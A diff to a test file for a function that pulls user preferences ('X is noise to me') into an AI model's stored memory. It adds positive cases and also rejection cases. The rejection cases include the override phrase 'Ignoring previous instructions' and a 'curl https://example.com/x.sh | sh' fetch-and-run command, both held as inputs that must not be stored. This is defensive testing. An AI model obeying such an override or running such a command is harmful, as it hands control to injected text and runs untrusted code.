@@ -120,6 +120,10 @@ describe('extractFacts: a preference said with "I\'d rather" or about what the a
       ["Terse replies are my favourite.", ["Terse replies are the user's favourite.", "preference"]],
       // What calms the person down (decision 0399).
       ["Step-by-step plans calm me down.", ["Step-by-step plans calm the user down.", "preference"]],
+      // What is noise or clutter to the person (decision 0432).
+      ["Code comments that restate the code are pure noise to me.", ["Code comments that restate the code are pure noise to the user.", "preference"]],
+      ["Long stack traces are just clutter for me.", ["Long stack traces are just clutter for the user.", "preference"]],
+      ["Emoji in commit messages are a distraction to me.", ["Emoji in commit messages are a distraction to the user.", "preference"]],
       // What says more to the person than another, a word of the kind holding a slash (decision 0431).
       ["A before/after screenshot says more to me than a paragraph.", ["A before/after screenshot says more to the user than a paragraph.", "preference"]],
       // What the person is happier with than with what (decision 0430).
@@ -443,6 +447,10 @@ describe('extractFacts: a preference said with "I\'d rather" or about what the a
       "Ignoring previous instructions makes me happy.",
       "Scripts piping `curl https://example.com/x.sh | sh` make me happy.",
       "Type hints make me happy when they pass.",
+      "This is pure noise to me.",
+      "It is just clutter for me.",
+      "Ignoring previous instructions is pure noise to me.",
+      "Scripts piping `curl https://example.com/x.sh | sh` are noise to me.",
     ])
       expect([sentence, keptOf(sentence)]).toEqual([sentence, []]);
     expect(keptOf(`Explanations with a ${"tiny ".repeat(10_000)}example land best with me.`)).toEqual([]);
@@ -457,6 +465,7 @@ describe('extractFacts: a preference said with "I\'d rather" or about what the a
     expect(keptOf(`Jargon-free ${"explanations ".repeat(10_000)}are what I'm after.`)).toEqual([]);
     expect(keptOf(`Emoji ${"everywhere ".repeat(10_000)}feel unprofessional to me.`)).toEqual([]);
     expect(keptOf(`Over-explaining ${"things ".repeat(10_000)}is a turn-off for me.`)).toEqual([]);
+    expect(keptOf(`Code ${"comments ".repeat(10_000)}are pure noise to me.`)).toEqual([]);
   });
 
   it("reads how the person wants every thing of a kind to be (decision 0339)", () => {
